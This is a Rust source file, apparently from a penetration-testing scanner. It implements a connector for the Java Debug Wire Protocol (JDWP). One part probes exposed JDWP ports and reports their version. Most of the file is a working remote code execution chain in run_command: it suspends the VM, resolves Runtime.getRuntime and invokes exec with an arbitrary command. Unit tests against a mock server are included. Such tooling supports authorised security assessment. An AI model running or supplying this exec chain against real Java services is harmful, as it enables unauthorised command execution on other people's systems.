//! JDWP: the Java debug wire protocol left exposed. The probe does the
//! plaintext handshake and a Version command; `run_command` walks the
//! classic Runtime.exec invocation chain. That chain is best-effort by
//! nature: it needs a live thread and a VM that tolerates invokes while
//! suspended, and it captures no output.

use async_trait::async_trait;
use credprobe_types::{Protocol, Target};
use tokio::net::TcpStream;

use crate::io::{self, DEFAULT_IO_TIMEOUT};
use crate::{Connector, ConnectorError, ProbeContext, ProbeReport};

pub struct JdwpConnector;

const HANDSHAKE: &[u8] = b"JDWP-Handshake";

// VirtualMachine command set
const VM_VERSION: (u8, u8) = (1, 1);
const VM_CLASSES_BY_SIG: (u8, u8) = (1, 2);
const VM_ALL_THREADS: (u8, u8) = (1, 4);
const VM_ID_SIZES: (u8, u8) = (1, 7);
const VM_SUSPEND: (u8, u8) = (1, 8);
const VM_RESUME: (u8, u8) = (1, 9);
const VM_CREATE_STRING: (u8, u8) = (1, 11);
const REFTYPE_METHODS: (u8, u8) = (2, 5);
const CLASSTYPE_INVOKE: (u8, u8) = (3, 3);
const OBJECT_INVOKE: (u8, u8) = (9, 6);

struct Jdwp {
    stream: TcpStream,
    next_id: u32,
    object_id_size: usize,
    method_id_size: usize,
    reftype_id_size: usize,
}

impl Jdwp {
    async fn open(target: &Target, cx: &ProbeContext) -> Result<Self, ConnectorError> {
        let mut stream = cx.dial(&target.host, target.port).await?;
        io::send(&mut stream, HANDSHAKE, DEFAULT_IO_TIMEOUT).await?;
        let reply = io::recv_exact(&mut stream, HANDSHAKE.len(), DEFAULT_IO_TIMEOUT).await?;
        if reply != HANDSHAKE {
            return Err(ConnectorError::Protocol("handshake not echoed".into()));
        }
        Ok(Self {
            stream,
            next_id: 1,
            object_id_size: 8,
            method_id_size: 8,
            reftype_id_size: 8,
        })
    }

    async fn command(&mut self, (set, cmd): (u8, u8), body: &[u8]) -> Result<Vec<u8>, ConnectorError> {
        let id = self.next_id;
        self.next_id += 1;
        let mut pkt = Vec::with_capacity(11 + body.len());
        pkt.extend_from_slice(&((11 + body.len()) as u32).to_be_bytes());
        pkt.extend_from_slice(&id.to_be_bytes());
        pkt.push(0);
        pkt.push(set);
        pkt.push(cmd);
        pkt.extend_from_slice(body);
        io::send(&mut self.stream, &pkt, DEFAULT_IO_TIMEOUT).await?;

        loop {
            let header = io::recv_exact(&mut self.stream, 11, DEFAULT_IO_TIMEOUT).await?;
            let len = u32::from_be_bytes([header[0], header[1], header[2], header[3]]) as usize;
            let reply_id = u32::from_be_bytes([header[4], header[5], header[6], header[7]]);
            let body = if len > 11 {
                io::recv_exact(&mut self.stream, len - 11, DEFAULT_IO_TIMEOUT).await?
            } else {
                Vec::new()
            };
            // events arrive unasked; skip anything that is not our reply
            if header[8] & 0x80 == 0 || reply_id != id {
                continue;
            }
            let error = u16::from_be_bytes([header[9], header[10]]);
            if error != 0 {
                return Err(ConnectorError::Protocol(format!("jdwp error code {error}")));
            }
            return Ok(body);
        }
    }

    async fn load_id_sizes(&mut self) -> Result<(), ConnectorError> {
        let body = self.command(VM_ID_SIZES, &[]).await?;
        if body.len() >= 20 {
            let sz = |i: usize| {
                i32::from_be_bytes([body[i], body[i + 1], body[i + 2], body[i + 3]]) as usize
            };
            self.method_id_size = sz(4);
            self.object_id_size = sz(8);
            self.reftype_id_size = sz(12);
        }
        Ok(())
    }

    fn read_id(body: &[u8], pos: &mut usize, size: usize) -> u64 {
        let mut v = 0u64;
        for _ in 0..size {
            v = (v << 8) | body.get(*pos).copied().unwrap_or(0) as u64;
            *pos += 1;
        }
        v
    }

    fn push_id(out: &mut Vec<u8>, id: u64, size: usize) {
        for i in (0..size).rev() {
            out.push((id >> (8 * i)) as u8);
        }
    }
}

fn jdwp_string(body: &[u8], pos: &mut usize) -> String {
    let len = body
        .get(*pos..*pos + 4)
        .map(|b| u32::from_be_bytes([b[0], b[1], b[2], b[3]]) as usize)
        .unwrap_or(0);
    *pos += 4;
    let end = (*pos + len).min(body.len());
    let s = String::from_utf8_lossy(&body[(*pos).min(body.len())..end]).into_owned();
    *pos = end;
    s
}

fn encode_string(s: &str) -> Vec<u8> {
    let mut out = (s.len() as u32).to_be_bytes().to_vec();
    out.extend_from_slice(s.as_bytes());
    out
}

struct VmVersion {
    description: String,
    vm_version: String,
    vm_name: String,
}

fn parse_version(body: &[u8]) -> VmVersion {
    let mut pos = 0;
    let description = jdwp_string(body, &mut pos);
    pos += 8; // jdwpMajor, jdwpMinor
    let vm_version = jdwp_string(body, &mut pos);
    let vm_name = jdwp_string(body, &mut pos);
    VmVersion {
        description,
        vm_version,
        vm_name,
    }
}

#[async_trait]
impl Connector for JdwpConnector {
    fn protocol(&self) -> Protocol {
        Protocol::Jdwp
    }

    async fn probe(&self, target: &Target, cx: &ProbeContext) -> ProbeReport {
        cx.log(format!("connecting to jdwp at {}", target.addr()));
        let mut session = match Jdwp::open(target, cx).await {
            Ok(s) => s,
            Err(e) => return ProbeReport::from_error(&e),
        };
        cx.log("handshake echoed, debugger attached");

        let version = match session.command(VM_VERSION, &[]).await {
            Ok(body) => parse_version(&body),
            Err(e) => return ProbeReport::from_error(&e),
        };

        let rule = "=".repeat(45);
        let evidence = format!(
            "jdwp debug port open at {} (no authentication)\n{rule}\nvm name: {}\nvm version: {}\n{}\n\narbitrary code execution is possible via Runtime.exec\n",
            target.addr(),
            version.vm_name,
            version.vm_version,
            io::clip_lines(&version.description, 4)
        );
        ProbeReport::success("jdwp access verified", evidence)
    }

    /// Runtime.getRuntime().exec(command), no output capture.
    async fn run_command(
        &self,
        target: &Target,
        cx: &ProbeContext,
        command: &str,
    ) -> Result<String, ConnectorError> {
        let mut session = Jdwp::open(target, cx).await?;
        session.load_id_sizes().await?;
        cx.log("suspending vm");
        session.command(VM_SUSPEND, &[]).await?;

        let outcome = exec_chain(&mut session, cx, command).await;
        // always try to let the VM run again
        let _ = session.command(VM_RESUME, &[]).await;
        outcome
    }
}

async fn exec_chain(
    session: &mut Jdwp,
    cx: &ProbeContext,
    command: &str,
) -> Result<String, ConnectorError> {
    // one live thread to invoke on
    let body = session.command(VM_ALL_THREADS, &[]).await?;
    let mut pos = 0;
    let count = Jdwp::read_id(&body, &mut pos, 4);
    if count == 0 {
        return Err(ConnectorError::Protocol("vm reports no threads".into()));
    }
    let thread = Jdwp::read_id(&body, &mut pos, session.object_id_size);
    cx.log(format!("using thread {thread:#x}"));

    let string_id = {
        let body = session
            .command(VM_CREATE_STRING, &encode_string(command))
            .await?;
        let mut pos = 0;
        Jdwp::read_id(&body, &mut pos, session.object_id_size)
    };

    let runtime_class = {
        let body = session
            .command(VM_CLASSES_BY_SIG, &encode_string("Ljava/lang/Runtime;"))
            .await?;
        let mut pos = 0;
        let classes = Jdwp::read_id(&body, &mut pos, 4);
        if classes == 0 {
            return Err(ConnectorError::Protocol("java.lang.Runtime not loaded".into()));
        }
        pos += 1; // ref type tag
        Jdwp::read_id(&body, &mut pos, session.reftype_id_size)
    };
    cx.log("resolved java.lang.Runtime");

    let (get_runtime, exec_method) = {
        let mut body_req = Vec::new();
        Jdwp::push_id(&mut body_req, runtime_class, session.reftype_id_size);
        let body = session.command(REFTYPE_METHODS, &body_req).await?;
        let mut pos = 0;
        let count = Jdwp::read_id(&body, &mut pos, 4);
        let mut get_runtime = None;
        let mut exec_method = None;
        for _ in 0..count {
            let id = Jdwp::read_id(&body, &mut pos, session.method_id_size);
            let name = jdwp_string(&body, &mut pos);
            let signature = jdwp_string(&body, &mut pos);
            pos += 4; // mod bits
            if name == "getRuntime" {
                get_runtime = Some(id);
            }
            if name == "exec" && signature == "(Ljava/lang/String;)Ljava/lang/Process;" {
                exec_method = Some(id);
            }
        }
        match (get_runtime, exec_method) {
            (Some(g), Some(e)) => (g, e),
            _ => {
                return Err(ConnectorError::Protocol(
                    "Runtime.getRuntime/exec methods not found".into(),
                ))
            }
        }
    };

    // static getRuntime() on the suspended thread
    let runtime_obj = {
        let mut req = Vec::new();
        Jdwp::push_id(&mut req, runtime_class, session.reftype_id_size);
        Jdwp::push_id(&mut req, thread, session.object_id_size);
        Jdwp::push_id(&mut req, get_runtime, session.method_id_size);
        req.extend_from_slice(&0u32.to_be_bytes()); // no arguments
        req.extend_from_slice(&0u32.to_be_bytes()); // options
        let body = session.command(CLASSTYPE_INVOKE, &req).await?;
        let mut pos = 1; // value tag ('L')
        Jdwp::read_id(&body, &mut pos, session.object_id_size)
    };
    if runtime_obj == 0 {
        return Err(ConnectorError::Protocol("getRuntime returned null".into()));
    }
    cx.log("obtained Runtime instance");

    // runtime.exec(command)
    let mut req = Vec::new();
    Jdwp::push_id(&mut req, runtime_obj, session.object_id_size);
    Jdwp::push_id(&mut req, thread, session.object_id_size);
    Jdwp::push_id(&mut req, runtime_class, session.reftype_id_size);
    Jdwp::push_id(&mut req, exec_method, session.method_id_size);
    req.extend_from_slice(&1u32.to_be_bytes());
    req.push(b'L'); // object argument tag
    Jdwp::push_id(&mut req, string_id, session.object_id_size);
    req.extend_from_slice(&0u32.to_be_bytes());
    session.command(OBJECT_INVOKE, &req).await?;
    cx.log("exec invoked");

    Ok(format!(
        "Runtime.exec({command:?}) dispatched on thread {thread:#x}; process output is not captured over jdwp"
    ))
}

#[cfg(test)]
mod tests {
    use super::*;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    use tokio::net::TcpListener;

    fn reply(id: u32, body: &[u8]) -> Vec<u8> {
        let mut pkt = ((11 + body.len()) as u32).to_be_bytes().to_vec();
        pkt.extend_from_slice(&id.to_be_bytes());
        pkt.extend_from_slice(&[0x80, 0, 0]);
        pkt.extend_from_slice(body);
        pkt
    }

    #[tokio::test]
    async fn version_evidence_from_open_debug_port() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        tokio::spawn(async move {
            let (mut stream, _) = listener.accept().await.unwrap();
            let mut buf = vec![0u8; 1024];
            let _ = stream.read(&mut buf).await; // handshake
            let _ = stream.write_all(HANDSHAKE).await;
            let _ = stream.read(&mut buf).await; // version command
            let mut body = encode_string("Java Debug Wire Protocol (Reference Implementation)");
            body.extend_from_slice(&1i32.to_be_bytes());
            body.extend_from_slice(&8i32.to_be_bytes());
            body.extend_from_slice(&encode_string("17.0.8"));
            body.extend_from_slice(&encode_string("OpenJDK 64-Bit Server VM"));
            let _ = stream.write_all(&reply(1, &body)).await;
        });

        let target = Target::new(Protocol::Jdwp, "127.0.0.1", port);
        let cx = ProbeContext::new(None);
        let report = JdwpConnector.probe(&target, &cx).await;
        assert!(report.success, "{}", report.message);
        assert!(report.evidence.contains("OpenJDK 64-Bit Server VM"));
        assert!(report.evidence.contains("17.0.8"));
    }

    #[tokio::test]
    async fn wrong_handshake_reply_fails() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        tokio::spawn(async move {
            let (mut stream, _) = listener.accept().await.unwrap();
            let mut buf = vec![0u8; 64];
            let _ = stream.read(&mut buf).await;
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\n").await;
        });

        let target = Target::new(Protocol::Jdwp, "127.0.0.1", port);
        let cx = ProbeContext::new(None);
        let report = JdwpConnector.probe(&target, &cx).await;
        assert!(!report.success);
    }

    #[test]
    fn id_round_trip_at_mixed_sizes() {
        let mut out = Vec::new();
        Jdwp::push_id(&mut out, 0xDEADBEEF, 8);
        let mut pos = 0;
        assert_eq!(Jdwp::read_id(&out, &mut pos, 8), 0xDEADBEEF);
        assert_eq!(pos, 8);
    }
}
